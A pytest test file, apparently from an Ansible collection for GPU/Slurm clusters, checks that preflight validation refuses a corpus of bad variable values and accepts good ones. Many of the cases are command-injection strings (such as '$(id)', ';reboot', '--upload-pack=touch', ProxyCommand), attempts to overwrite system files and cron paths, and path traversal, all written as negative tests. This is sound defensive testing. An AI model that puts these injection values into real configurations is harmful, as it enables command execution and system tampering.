    ("pytorch-index-no-scheme", {"pytorch_index_url": "download.pytorch.org/whl"}, "pytorch_index_url must be an http://, https:// or file:// URL"),
    ("pytorch-extra-packages-option", {"pytorch_extra_packages": ["--index-url=http://198.51.100.7/simple", "numpy"]},
     "pytorch_extra_packages[0] must be a pip requirement (name[extras]==version), not a pip option"),
    ("pytorch-share-dir-metachar", {"pytorch_share_dir": "/opt/share;id"}, "pytorch_share_dir contains ';'"),
    ("pytorch-version-newline", {"pytorch_version": "2.13.0" + NL}, "pytorch_version contains a newline"),
    # the held-out set of issue 25 (second round): values that reach a script, a command line or a system file
    ("pytorch-launcher-system-file", {"pytorch_launcher_path": "/etc/passwd"}, "pytorch_launcher_path would replace a system file"),
    ("ucx-cuda-home-dotdot", {"ucx_cuda_home": "/usr/local/../cuda"}, "ucx_cuda_home must not contain '..'"),
    ("ucx-configure-substitution", {"ucx_configure_extra": ["--with-foo=$(id)"]}, "ucx_configure_extra[0] contains '$'"),
    ("openmpi-configure-backtick", {"openmpi_configure_extra": ["CFLAGS=-O2 `id`"]}, "openmpi_configure_extra[0] contains '`'"),
    ("nccl-tests-git-option", {"nccl_tests_git_url": "--upload-pack=touch"}, "nccl_tests_git_url"),
    ("nccl-tests-make-semicolon", {"nccl_tests_make_extra": ["NVCC_GENCODE=x;id"]}, "nccl_tests_make_extra[0] contains ';'"),
    # one message per wrong value: the type (a list) is what is wrong first
    ("nccl-tests-gencode-smuggle", {"nccl_tests_gencode": "90 -o /etc/x"}, "nccl_tests_gencode must be a list, got a string"),
    ("nccl-tests-hosts-semicolon", {"nccl_tests_hosts": "all;id"}, "nccl_tests_hosts must be an Ansible host pattern"),
    ("build-controller-dir-semicolon", {"build_artifact_controller_dir": "/tmp/a;id"}, "build_artifact_controller_dir contains ';'"),
    ("openmpi-pmix-version-word", {"openmpi_pmix_version": "newest"}, "openmpi_pmix_version must be a version of digits and dots"),
    # wrong twice (5.0.2 is not the Debian package's revision, and 5.0.2 with CUDA is a known-bad pairing): both named at once
    ("openmpi-502-with-cuda", {"openmpi_version": "5.0.2", "openmpi_cuda_home": "/usr/local/cuda"},
     "openmpi_version 5.0.2 with openmpi_cuda_home /usr/local/cuda (CUDA): Open MPI 5.0.0 to 5.0.2 built with CUDA"),
    ("nccl-ifname-semicolon", {"nccl_settings": {"NCCL_SOCKET_IFNAME": "eth0;id"}}, "NCCL_SOCKET_IFNAME"),
    ("part-two-defaults", {"slurm_partitions": [dict(PART, default=True), {"name": "gpu", "nodes": "ALL", "default": True}]},
     "slurm_partitions: 2 partitions set default: true ('batch', 'gpu')"),
    ("part-max-time-word", {"slurm_partitions": [dict(PART, max_time="forever")]},
     "slurm_partitions[0]: partition 'batch': max_time is 'forever', not a Slurm time"),
    ("part-unknown-nodes", {"slurm_partitions": [{"name": "gpu", "nodes": "gpu[01-02]"}]},
     "slurm_partitions[0]: partition 'gpu' names nodes that are not in the slurm_compute group: gpu01, gpu02"),
    ("verify-ignore-command", {"slurm_verify_ignore_nodes": "gpu01;reboot"}, "invalid host name 'gpu01;reboot'"),
    # Survey answers (issue 29's hostile matrix): a name past DNS's limit, and YAML's base-60 reading of 10:00:00.
    ("verify-ignore-huge-name", {"slurm_verify_ignore_nodes": "g" * 100000}, "longer than 253 characters"),
    ("acceptance-time-limit-number", {"acceptance_job_time_limit": 36000},
     "acceptance_job_time_limit must be text such as"),
    # The rolling upgrade's settings (roles/upgrade), also checked in site.yml's preflight.
    ("upgrade-serial-word", {"upgrade_serial": [1, "ten"]}, "upgrade_serial: 'ten' is not a whole number of nodes"),
    ("upgrade-serial-empty", {"upgrade_serial": ""}, "upgrade_serial is empty"),
    ("upgrade-components-unknown", {"upgrade_components": ["nccl", "bios"]}, "upgrade_components: unknown bios"),
    ("upgrade-components-string", {"upgrade_components": "nccl"}, "upgrade_components must be a list"),
    ("upgrade-budget-range", {"upgrade_max_fail_percentage": 101}, "upgrade_max_fail_percentage must be"),
    ("upgrade-gate-shell", {"upgrade_gate_commands": ["dcgmi diag -r 2"]}, "upgrade_gate_commands must be a list of commands"),
    ("upgrade-cancel-word", {"upgrade_cancel_jobs": "yes"}, "upgrade_cancel_jobs"),
    ("slurm-version-option", {"slurm_version": "22.05.8 --allow-downgrades"}, "slurm_version"),
    ("acceptance-hook-unknown", {"acceptance_hooks": {"nccl_allreduce": "/tmp/x.yml"}}, "acceptance_hooks: unknown hook 'nccl_allreduce'"),
    ("acceptance-busbw-size", {"acceptance_busbw_overrides": {"16GB": 440}}, "acceptance_busbw_overrides: key '16GB' must be a message size"),
    ("acceptance-busbw-zero", {"acceptance_busbw_overrides": {"16GiB": 0}}, "acceptance_busbw_overrides.16GiB must be a busbw"),
    ("acceptance-gpu-count-negative", {"acceptance_expected_gpu_count": -1}, "acceptance_expected_gpu_count must be at least 0"),
    ("acceptance-drain-no-host", {"acceptance_drain_failing": True}, "acceptance_drain_host must name the host"),
    ("acceptance-drain-host-command", {"acceptance_drain_failing": True, "acceptance_drain_host": "ctl01;id"},
     "acceptance_drain_host must be a DNS name"),
    ("acceptance-driver-version-newline", {"acceptance_expected_driver_version": "580.159.04" + NL},
     "acceptance_expected_driver_version contains a newline"),
    # The third held-out round (issue 25): system files and directories, list options given a string, typos inside a
    # role's prefix, one message per rule, the shared source switches
    ("nvidia-expected-gpus-negative", {"nvidia_driver_expected_gpus": -1}, "nvidia_driver_expected_gpus must be at least 0"),
    ("nccl-conf-in-ld-so-conf-d", {"nccl_conf_path": "/etc/ld.so.conf.d/nccl.conf"}, "nccl_conf_path is a system directory or lies in one"),
    ("build-dir-cron", {"build_artifact_build_dir": "/etc/cron.daily"}, "build_artifact_build_dir is a system directory"),
    ("launch-config-dpkg-status", {"pytorch_launch_config_path": "/var/lib/dpkg/status"},
     "pytorch_launch_config_path would replace a system file"),
    ("pytorch-extra-packages-string", {"pytorch_extra_packages": "numpy"}, 'pytorch_extra_packages must be a list, got a string (write ['),
    ("pytorch-extra-index-string", {"pytorch_extra_index_urls": "https://download.example.org/simple"},
     "pytorch_extra_index_urls must be a list, got a string"),
    ("chrony-pools-string", {"base_chrony_pools": "pool.ntp.org"}, "base_chrony_pools must be a list, got a string"),
    ("typo-in-openmpi-prefix", {"opnempi_version": "4.1.4"}, "opnempi_version is not a variable of any role (did you mean openmpi_version?)"),
    ("typo-in-driver-prefix", {"nvidia_drvier_branch": "580"}, "(did you mean nvidia_driver_branch?)"),
    ("typo-in-pytorch-prefix", {"pytroch_version": "2.5.1"}, "(did you mean pytorch_version?)"),
    ("driver-branch-letter-o", {"nvidia_driver_branch": "58O"}, 'nvidia_driver_branch must be a driver branch such as 580, got'),
    ("doca-version-two-parts", {"rdma_doca_version": "3.2"}, 'rdma_doca_version must be a DOCA release such as 3.2.1, got'),
    ("gpu-source-typo", {"trainstack_gpu_source": "cuda_rep"}, "trainstack_gpu_source must be cuda_repo, distribution, local or preinstalled"),
    ("build-source-typo", {"trainstack_build_source": "tarball"}, "trainstack_build_source must be debian, url or mirror"),
    # The fifth held-out round (issue 25)
    ("nhc-gpu-model-command", {"nhc_gpu_model": "H100$(reboot)"}, "nhc_gpu_model 'H100$(reboot)' cannot be given to NHC"),
    ("nhc-mount-key-typo", {"nhc_mounts": [{"path": "/scratch", "min_free_pct": 5}]},
     "nhc_mounts[0]: unknown key min_free_pct (did you mean min_free_percent?)"),
    ("nhc-extra-key-typo", {"nhc_extra_checks": [{"check": "check_hw_physmem_free", "arg": ["1GB"]}]},
     "nhc_extra_checks[0]: unknown key arg (did you mean args?)"),
    ("nhc-git-ssh-option-host", {"nhc_git_url": "ssh://-oProxyCommand=id/nhc.git"}, "must not name a host beginning with '-'"),
    ("nhc-prefix-typo", {"nch_timeout": 20}, "nch_timeout is not a variable of any role (did you mean nhc_timeout?)"),
    ("nhc-other-node-name", {"nhc_slurm_node_name": "gpu99"}, "nhc_slurm_node_name is"),
    ("slurm-health-interval-16-bit", {"slurm_health_check_interval": 70000}, "slurm_health_check_interval must be at most 65535"),
    ("slurm-health-interval-fullwidth", {"slurm_health_check_interval": "\uff13\uff10\uff10"}, "slurm_health_check_interval must be a whole number"),
    ("ucx-extra-prefix-abbreviated", {"ucx_configure_extra": ["--pre=/usr"]}, "ucx_configure_extra may not set --pre (--prefix)"),
    ("ucx-extra-libdir", {"ucx_configure_extra": ["--libdir=/usr/lib/x86_64-linux-gnu"]}, "ucx_configure_extra may not set --libdir"),
    ("openmpi-extra-sysconfdir", {"openmpi_configure_extra": ["--sysconfdir=/etc"]}, "openmpi_configure_extra may not set --sysconfdir"),
    ("pytorch-version-float", {"pytorch_version": 2.1}, "pytorch_version must be quoted"),
    ("pytorch-extra-torch-pin", {"pytorch_extra_packages": ["torch==2.1.0"]}, "pytorch_extra_packages may not name torch or torchvision"),
    ("nhc-url-credentials", {"nhc_url": "https://user:token@mirror.example.org/nhc-1.4.3.tar.gz"}, "nhc_url must not carry credentials"),
    ("acceptance-drain-reason-nhc", {"acceptance_drain_reason": "NHC: acceptance failed"}, "acceptance_drain_reason may not begin with"),
    # The sixth held-out round (issue 25): versions YAML read as numbers
    ("min-python-float", {"preflight_min_python": 3.1}, "preflight_min_python must be quoted: YAML read it as the number 3.1"),
    ("cuda-version-float", {"cuda_version": 12.1}, "cuda_version must be quoted"),
    ("nccl-plugin-from-tmp", {"nccl_settings": {"NCCL_NET_PLUGIN": "/tmp/libnccl-net-evil.so"}}, "lies in a directory anyone may write to"),
    ("nccl-debug-file-in-cron", {"nccl_settings": {"NCCL_DEBUG_FILE": "/etc/cron.d/nccl.%h"}}, "NCCL_DEBUG_FILE /etc/cron.d/nccl.%h lies in a system"),
    # The sixth round's leftovers (issue 25): cross-checks against the value another role really gets, unknown keys of
    # fields-style values, one message per wrong value and rule, the user's own words and names
    ("nccl-cuda-part-vs-cuda-default", {"nccl_version": "2.26.2-1+cuda13.0"},
     "nccl_version is built for CUDA 13.0, cuda_version (the cuda role default) is 12.8 (CUDA majors differ)"),
    ("cuda-vs-nccl-default", {"cuda_version": "13.0"}, "is built for CUDA 12.8, cuda_version is 13.0 (CUDA majors differ)"),
    ("driver-too-old-for-cuda-default", {"nvidia_driver_branch": "535"},
     "cuda_version (the cuda role default) 12.8 needs a driver branch >= 570"),
    ("mirror-manifest-entry-typo", {"trainstack_gpu_mirror_manifest": {"files": [
        {"url": "https://example.org/w/torch.whl", "sha256": "0" * 64, "dets": "wheels"}]}},
     "trainstack_gpu_mirror_manifest.files[0]: unknown key dets (did you mean dest?)"),
    ("mirror-manifest-top-typo", {"trainstack_gpu_mirror_manifest": {"file": []}},
     "trainstack_gpu_mirror_manifest: unknown key file (did you mean files?)"),
    ("partition-key-typo", {"slurm_partitions": [dict(PART, max_tme="1-00:00:00")]},
     "slurm_partitions[0]: unknown key max_tme (did you mean max_time?)"),
    ("venv-list-one-message", {"pytorch_venv": ["/opt/venv"]}, "pytorch_venv must be a path (a string), got a list"),
    ("preflight-roles-typo", {"preflight_roles": ["base", "slrum"]},
     'preflight_roles[1] \\"slrum\\" is not a role of this collection (did you mean slurm?)'),
    ("supported-os-minor-version", {"preflight_supported_os": {"Debian": ["12", "13"], "Rocky": [9.4]}},
     "preflight_supported_os.Rocky[0] must be a major version such as 12"),
    ("supported-os-string", {"preflight_supported_os": {"Debian": "12"}}, "preflight_supported_os.Debian must be a list, got a string"),
    ("gpu-local-without-url", {"trainstack_gpu_source": "local"},
     "trainstack_gpu_source is local: trainstack_gpu_local_repo_url must be the file:// or http(s):// URL"),
    ("gpu-local-packages-from-word", {"trainstack_gpu_source": "local", "trainstack_gpu_local_repo_url": "file:///srv/m",
                                      "trainstack_gpu_local_packages_from": "pip"},
     "trainstack_gpu_local_packages_from must be cuda_repo or distribution (whose package names the local repository holds), got"),
    # (the failures are read as JSON: a double quote in a message is \\" there)
    ("switch-word-user-words", {"ucx_verbs": "maybe"}, 'ucx_verbs must be true or false, got \\"maybe\\"'),
    ("count-word-user-words", {"nvidia_driver_reboot_drain_timeout": "soon"},
     'nvidia_driver_reboot_drain_timeout must be a whole number, got \\"soon\\"'),
    # The seventh held-out round (issue 25): the generic layer's refusals say what is allowed, not its regular expression;
    # the build source named as the user set it
    ("openmpi-version-two-parts", {"openmpi_version": "4.1"}, "openmpi_version must be a release number x.y.z such as 4.1.4"),
    ("gpu-local-ftp-url", {"trainstack_gpu_source": "local", "trainstack_gpu_local_repo_url": "ftp://mirror.example.org/apt"},
     "trainstack_gpu_local_repo_url must be an http://, https:// or file:// URL"),
    ("build-source-mirror-without-dir", {"trainstack_build_source": "mirror"},
     "ucx_mirror_dir must name the directory that holds the tarball (trainstack_build_source mirror)"),
    ("nhc-driver-branch-only", {"nhc_gpu_driver_version": "580"}, "NHC compares it with what nvidia-smi reports, exactly"),
    ("hooks-choice-typo", {"acceptance_builtin_hooks": ["mpi", "dpp"]},
     'acceptance_builtin_hooks[1] must be one of: nccl_allreduce_single_node, nccl_allreduce_multi_node, ib_send_bw_pairs, mpi, ddp, '
     'got \\"dpp\\" (did you mean ddp?)'),
    # nhc: the role's rules, one case each
    ("nhc-version-word", {"nhc_version": "latest"}, "nhc_version must"),
    ("nhc-commit-tag", {"nhc_git_commit": "1.4.3"}, "nhc_git_commit must be a full 40-hex commit id"),
    ("nhc-url-without-sha", {"nhc_source": "url"}, "nhc_sha256 must be the SHA-256 of the tarball"),
    ("nhc-source-word", {"nhc_source": "debian"}, 'nhc_source must be one of: git, url, mirror, got \\"debian\\"'),
    ("nhc-git-option", {"nhc_git_url": "--upload-pack=touch"}, "nhc_git_url"),
    ("nhc-timeout-over-slurm", {"nhc_timeout": 90}, "nhc_timeout must be at most 55"),
    ("nhc-gpu-count-word", {"nhc_gpu_count": "eight"}, "nhc_gpu_count must be a number (or one of: 'auto')"),
    ("nhc-driver-newline", {"nhc_gpu_driver_version": "580.95.05" + NL}, "nhc_gpu_driver_version"),
    ("nhc-xids-command", {"nhc_fatal_xids": ["79;reboot"]}, "nhc_fatal_xids"),
    ("nhc-mount-command", {"nhc_mounts": [{"path": "/scratch$(id)"}]}, "nhc_mounts[0].path contains '$'"),
    ("nhc-mount-relative", {"nhc_mounts": [{"path": "scratch"}]}, "nhc_mounts[0].path"),
    ("nhc-mount-free-zero", {"nhc_mounts": [{"path": "/scratch", "min_free_percent": 0}]}, "nhc_mounts[0].min_free_percent must be at least 1"),
    ("nhc-extra-not-a-check", {"nhc_extra_checks": [{"check": "reboot"}]}, "nhc_extra_checks entry needs check: a check_<name> function"),
    ("nhc-extra-arg-command", {"nhc_extra_checks": [{"check": "check_hw_physmem_free", "args": ["1GB;id"]}]},
     "nhc_extra_checks check_hw_physmem_free argument '1GB;id' cannot be given to NHC"),
    ("nhc-node-name-command", {"nhc_slurm_node_name": "gpu01;id"}, "nhc_slurm_node_name"),
    ("slurm-health-state-word", {"slurm_health_check_node_state": "IDLE,BUSY"}, "slurm_health_check_node_state must be a comma-separated list"),
    ("slurm-health-program-relative", {"slurm_health_check_program": "nhc"}, "slurm_health_check_program"),
    ("slurm-health-in-extra", {"slurm_config_extra": {"HealthCheckProgram": "/usr/sbin/nhc"}},
     "key HealthCheckProgram is set by the role itself"),
    # an inventory name that cannot be an /etc/hosts name or a Slurm NodeName
    ("bad_name", {}, "inventory_hostname must be a DNS name"),
    # The eighth held-out round (issue 25): Slurm's reserved partition name, a Slurm name with a space, NCCL files in a
    # directory anyone may write to, a loopback bootstrap interface, preflight's own lists read on every host
    ("part-name-default", {"slurm_partitions": [{"name": "DEFAULT", "nodes": "ALL", "default": True}]},
     "slurm_partitions[0].name 'DEFAULT' is Slurm's word for the defaults of every partition"),
    ("slurm-node-name-space", {"slurm_node_name": "gpu 01"}, "slurm_node_name contains a space"),
    ("part-state-choice", {"slurm_partitions": [dict(PART, state="OPEN")]},
     "slurm_partitions[0].state must be one of: UP, DOWN, DRAIN, INACTIVE"),
    ("nccl-topology-in-tmp", {"nccl_topology_path": "/tmp/topology.xml"}, "nccl_topology_path lies in a directory anyone may write to"),
    # gpu_stack_hosts: the nccl role configures this host, so its interfaces are compared
    ("nccl-management-loopback", {"nccl_management_interface": "lo", "gpu_stack_hosts": "nccl-management-loopback"},
     "nccl_management_interface lo is the loopback interface"),
    ("required-group-one-host", {"preflight_required_groups": ["gpu"]}, "preflight_required_groups: inventory group 'gpu' is missing"),
    ("allow-unknown-keys-typo", {"preflight_allow_unknown_keys": ["slurm_config_extr"]},
     "is not a variable of any role (did you mean slurm_config_extra?)"),
    ("allowed-variable-typo-hint", {"preflight_variables_allowed": ["slurm_site_note"], "slurm_site_notes": "x"},
     "slurm_site_notes is not a variable of any role (did you mean slurm_site_note?)"),
    # The ninth held-out round (issue 25): pins pip cannot satisfy, hosts delegated to that the inventory lacks, two roles'
    # directories in one place, an unquoted H:00:00, numbers with a newline, shell text in MPI's environment, a value that
    # is not a valid template, preflight's own options in the user's words
    ("r9-pin-conflict", {"pytorch_extra_packages": ["numpy==1.26.4", "NumPy==2.0.1"]},
     "pytorch_extra_packages pins numpy to different versions"),
    ("r9-upgrade-controller-not-host", {"upgrade_slurm_controller": "slurm-head"},
     "upgrade_slurm_controller must name a host of the inventory"),
    ("r9-driver-controller-not-host", {"nvidia_driver_reboot_slurm_controller": "slurm-head"},
     "nvidia_driver_reboot_slurm_controller must name a host of the inventory"),
    ("r9-acceptance-drain-host-not-host", {"acceptance_drain_failing": True, "acceptance_drain_host": "slurm-head"},
     "acceptance_drain_host must name a host of the inventory"),
    ("r9-build-dir-is-root", {"build_artifact_build_dir": "/opt/trainstack"},
     "build_artifact_root and build_artifact_build_dir are the same directory"),
    ("r9-acceptance-scratch-in-root", {"acceptance_scratch_dir": "/opt/trainstack/acceptance"},
     "acceptance_scratch_dir (/opt/trainstack/acceptance) lies inside build_artifact_root"),
    ("r9-nhc-gpu-count-negative", {"nhc_gpu_count": -1}, "nhc_gpu_count must be at least 0, got -1"),
    ("r9-part-max-time-base60", {"slurm_partitions": [dict(PART, default=True, max_time=3600)]},
     "max_time is the number 3600: quote it"),
    ("r9-port-newline", {"build_artifact_serve_port": "8690" + NL}, "build_artifact_serve_port must be a whole number, got"),
    ("r9-mpi-env-substitution", {"acceptance_mpi_environment": {"UCX_TLS": "rc,sm$(id)"}},
     "acceptance_mpi_environment.UCX_TLS contains '$' (a shell metacharacter)"),
    ("r9-rdzv-huge", {"pytorch_rdzv_timeout": 10000000000}, "pytorch_rdzv_timeout must be whole seconds from 1 to 86400"),
    ("r9-jinja-syntax-error", {"acceptance_output_dir": "/var/lib/acceptance/{{ "},
     "acceptance_output_dir is not a valid Jinja template"),
    ("r9-preflight-bool-word", {"preflight_fail_on_unsupported_os": "maybe"},
     "preflight_fail_on_unsupported_os must be true or false, got"),
]

# Good values beside the bad ones: these hosts must pass (the failures are the values', not the run's).
GOOD_HOSTS = {
    "good-defaults": {},
    "good-values": {
        "slurm_partitions": [{"name": "batch", "nodes": "ALL", "default": True, "max_time": "2-00:00:00",
                              "options": {"OverSubscribe": "NO", "TRESBillingWeights": "CPU=1.0,Mem=0.25G"}}],
        "slurm_config_extra": {"KillWait": 45, "SchedulerParameters": "bf_interval=30,bf_max_job_test=500"},
        "slurm_cgroup_options": {"AllowedRAMSpace": 100},
        "slurm_dbd_config_extra": {"PurgeJobAfter": "12months"},
        "slurm_dbd_db_password": "s3cr3t!pa$$",
        "trainstack_gpu_hold": False,
        "trainstack_mpi": False,
        "slurm_state_save_location": "/srv/slurm/state",
        "nccl_settings": {"NCCL_DEBUG": "WARN", "NCCL_IB_HCA": None, "NCCL_IB_DISABLE": True, "NCCL_SOCKET_IFNAME": "=eth0,eth1"},
        "ucx_cuda_home": "auto",
        "openmpi_pmix_version": "auto",
        "nccl_tests_gencode": ["90", "sm_100a"],
        "slurm_verify_ignore_nodes": "gpu[01-02],login_1",
        "acceptance_busbw_overrides": {"16GiB": 440, "1048576": 10.5, "256MiB": None},
        "acceptance_expected_driver_version": "580.159.04",
        "acceptance_drain_host": None,
        "acceptance_nvidia_smi_path": "/usr/bin/nvidia-smi",
        "nccl_management_interface": "eth0",
        "base_chrony_servers": ["10.0.0.1", "ntp.example.org"],
        "base_host_address": "10.0.0.11",
        "nvidia_driver_reboot_drain_poll": 5,
        "trainstack_apt_proxy": "http://10.0.0.1:3142",
        # Documented as the shared switch of the build sources; no role declared it (issue 25).
        "trainstack_build_source": "debian",
        "pytorch_cuda_index": "cpu",
        "pytorch_extra_packages": ["accelerate[deepspeed]>=1.0,<2", "numpy~=1.26.4", "triton >= 3.0 ; platform_machine == 'x86_64'"],
        "acceptance_mpi_environment": {"OMPI_MCA_btl_tcp_if_include": "eth0", "UCX_TLS": "rc,sm"},
        "acceptance_report_basename": "acceptance-2026-12",
        "nhc_gpu_count": 8,
        # Major versions YAML reads as numbers (issue 25): ansible_distribution_major_version is compared as text.
        "preflight_supported_os": {"Debian": [12, 13], "Ubuntu": [22, 24]},
        "slurm_return_to_service": "1",
        "ucx_verbs": "yes",
        "trainstack_gpu_mirror_manifest": {"files": [{"url": "https://example.org/w/torch.whl", "sha256": "0" * 64, "dest": "wheels"}]},
        "nhc_gpu_model": "NVIDIA H100 80GB HBM3",
        "nhc_gpu_driver_version": "",
        "nhc_mounts": [{"path": "/scratch", "min_free_percent": 5}, {"path": "/home/shared.d"}],
        "nhc_extra_checks": [{"check": "check_hw_physmem_free", "args": ["1GB"]}],
        "nhc_source": "mirror",
        "nhc_mirror_dir": "/srv/mirrors/nhc",
        "nhc_sha256": "65b5308410d288e06ff741e05052fb044155c4063545ed3a5af8812b52fa2d0f",
        "slurm_health_check_program": "/usr/sbin/nhc",
        "slurm_health_check_interval": 300,
        "slurm_health_check_node_state": "IDLE,CYCLE",
    },
    # Held-out rounds' legal values that were refused (issue 25), grouped where their variables differ (a good host costs
    # a whole preflight run). Round 5: NHC's own flags and paths, a two-part driver. Round 7: numbers and switches
    # written as strings (argument validation converts them), major versions as numbers. Round 8: nvcc's -ccbin given a
    # path, a whole number with a point.
    "good-nhc-extra-typed-as-strings-compiler-path": {
        "nhc_extra_checks": [{"check": "check_ps_service", "args": ["-u", "root", "-S", "sshd"]},
                             {"check": "check_fs_free", "args": ["/scratch", "5%"]}],
        "nhc_gpu_driver_version": "535.183",
        "pytorch_extra_packages": ["torchaudio==2.5.1", "torch-geometric"],
        "acceptance_expected_gpu_count": "8", "acceptance_ib_tcp_port": "18600", "acceptance_ib_min_bw_fraction": "0.8",
        "acceptance_png": "no", "openmpi_slurm": "false", "ucx_verbs": 0, "build_artifact_keep": "5", "nhc_timeout": "45",
        "slurm_return_to_service": 2, "rdma_gdrcopy": "yes", "rdma_gdrcopy_version": "2.4",
        "preflight_supported_os": {"Debian": ["12"], "Ubuntu": [24], "Rocky": [9]},
        "cuda_host_compiler": "/usr/bin/g++-12", "nhc_ib_flap_window": 86400.0,
    },
    # A CUDA 11 stack with a cuDNN 9 built for it, upgrade settings, and a slurmdbd password with spaces (slurmdbd.conf.j2
    # double-quotes it; the generic check used to refuse it).
    "good-cuda11-upgrade-dbd-password": {
        "cuda_version": "11.8", "nccl_version": "2.21.5-1+cuda11.8", "cuda_cudnn_manage": True, "cuda_cudnn_version": "9.8.0.87-1",
        "upgrade_serial": "1,5,10%", "upgrade_components": ["nccl", "driver"], "upgrade_max_fail_percentage": 10,
        "upgrade_gate_commands": [["dcgmi", "diag", "-r", "2"]], "slurm_version": "22.05.8-4+deb12u3",
        "acceptance_job_time_limit": "0-10:00:00",
        "slurm_dbd_db_password": "correct horse battery staple",
    },
    "good-roles-subset": {"preflight_roles": ["base", "slurm"]},
    "good-escape-hatches": {
        "slurm_config_extra": {"TrainstackFutureOption": "yes"},
        "preflight_allow_unknown_keys": ["slurm_config_extra"],
        "slurm_site_note": "kept on purpose",
        "preflight_variables_allowed": ["slurm_site_note"],
    },
    # The ninth round's legal neighbours: one pin given twice, MPI settings with ^ and commas, a GPU count, a partition
    # limit in minutes, a root of its own, a drain host that is an inventory host (this one).
    "good-r9-legal-neighbours": {
        "pytorch_extra_packages": ["numpy==1.26.4", "numpy==1.26.4", "scipy>=1.11,<2"],
        "acceptance_mpi_environment": {"OMPI_MCA_btl": "^openib", "UCX_TLS": "rc,sm,cuda_copy"},
        "nhc_gpu_count": 8,
        "slurm_partitions": [dict(PART, default=True, max_time=90)],
        "build_artifact_root": "/srv/trainstack",
        "acceptance_drain_failing": True,
        "acceptance_drain_host": "good-r9-legal-neighbours",
    },
}


# Hosts that are another OS than this machine: the facts the fact cache gives them, and the groups they are in.
UBUNTU_24 = {"ansible_distribution": "Ubuntu", "ansible_distribution_release": "noble", "ansible_distribution_version": "24.04",
             "ansible_distribution_major_version": "24", "ansible_os_family": "Debian"}
OTHER_OS = {
    "openmpi-ubuntu-without-defaults": (UBUNTU_24, ["mpi"]),
    "good-ubuntu-not-mpi": (UBUNTU_24, []),
    "good-ubuntu-mpi-with-its-pmix-and-slurm": (UBUNTU_24, ["mpi"]),
}
CORPUS.append(("openmpi-ubuntu-without-defaults", {"openmpi_configure_extra": []},
               "openmpi: no defaults for Ubuntu 24 on openmpi-ubuntu-without-defaults (the role knows Debian 12 and 13): "
               "set openmpi_pmix_prefix, openmpi_pmix_version and openmpi_slurm_version"))
GOOD_HOSTS["good-ubuntu-not-mpi"] = {}
GOOD_HOSTS["good-ubuntu-mpi-with-its-pmix-and-slurm"] = {
    "openmpi_pmix_prefix": "/opt/pmix/4.2.2", "openmpi_pmix_version": "4.2.2", "openmpi_slurm_version": "23.11.4"}


# Once per test run, whatever the workers: xdist spread the corpus tests over both workers despite their xdist_group
# and each ran the whole corpus (the CI of 2120c7b: 313 s twice). The first worker runs it, the others read its result.
@pytest.fixture(scope="session")
def corpus_run(tmp_path_factory, worker_id):
    """The corpus run's result, shared by the xdist workers through a file under pytest's common temporary root."""
    if worker_id == "master":
        return _corpus_run()
    shared = tmp_path_factory.getbasetemp().parent / "bad_input_corpus.json"
    with open(str(shared) + ".lock", "w", encoding="utf-8") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        if shared.is_file():
            hosts = json.loads(shared.read_text(encoding="utf-8"))
            return {host: dict(seen, plays=set(seen["plays"])) for host, seen in hosts.items()}
        hosts = _corpus_run()
        shared.write_text(json.dumps({host: dict(seen, plays=sorted(seen["plays"])) for host, seen in hosts.items()}),
                          encoding="utf-8")
        return hosts


def _corpus_run():
    """One ansible-playbook run of the preflight play over every case: host -> what happened to it."""
    if not HAS_ANSIBLE_PLAYBOOK:
        pytest.skip("ansible-playbook is not beside this Python")
    hosts = {}
    for name, host_vars in list(GOOD_HOSTS.items()) + [(case[0], case[1]) for case in CORPUS]:
        facts, groups = OTHER_OS.get(name, ({}, []))
        hosts[name] = {"vars": host_vars, "facts": facts, "groups": groups}
    # One play over every case: about 10 minutes on 2 free cores, more beside other work.
    return preflight_hosts(hosts, timeout=1800)


def test_corpus_is_large_and_distinct():
    assert len(CORPUS) >= 100
    assert len({case[0] for case in CORPUS}) == len(CORPUS)
    assert len({json.dumps(case[1], sort_keys=True) for case in CORPUS}) == len(CORPUS)


# The corpus runs once for all these tests: corpus_run shares its result between the xdist workers.
@pytest.mark.xdist_group("bad_input_corpus")
@pytest.mark.parametrize("host", sorted(GOOD_HOSTS))
def test_good_values_pass_preflight_in_the_corpus_run(corpus_run, host):
    assert corpus_run[host]["failed"] == [] and corpus_run[host]["plays"] == {0, 1}, corpus_run.get(host)


@pytest.mark.xdist_group("bad_input_corpus")
@pytest.mark.parametrize(("host", "host_vars", "needle"), CORPUS, ids=[case[0] for case in CORPUS])
def test_bad_input_is_refused_in_preflight(corpus_run, host, host_vars, needle):
    seen = corpus_run[host]
    assert seen["failed"], "preflight accepted %r" % (host_vars,)
    assert any(needle in text for text in seen["failed"]), seen["failed"]
    assert seen["changed"] == [] and seen["plays"] == {0}, seen


@pytest.mark.skipif(not HAS_ANSIBLE_PLAYBOOK, reason="ansible-playbook is not beside this Python")
def test_mirror_destinations_stay_inside_the_mirror():
    sha = "0" * 64
    manifest = {"files": [{"url": "https://example.org/w/torch.whl", "sha256": sha, "dest": "../../etc"},
                          {"url": "https://example.org/w/..%2F..%2Fetc%2Fcron.d%2Fjob", "sha256": sha}]}
    returncode, report, stderr = run_playbook(
        os.path.join(ROOT, "playbooks", "mirror.yml"), "--check", "-e",
        json.dumps({"trainstack_gpu_mirror_manifest": manifest, "trainstack_gpu_mirror_dir": "/srv/mirror"}))
    failed, changed, plays = failures_and_changes(report)
    assert returncode != 0, stderr
    assert any("trainstack_gpu_mirror_manifest.dest[0] must be a relative path" in text
               and "trainstack_gpu_mirror_manifest.url file name[1]" in text for play, text in failed), failed
    assert changed == []
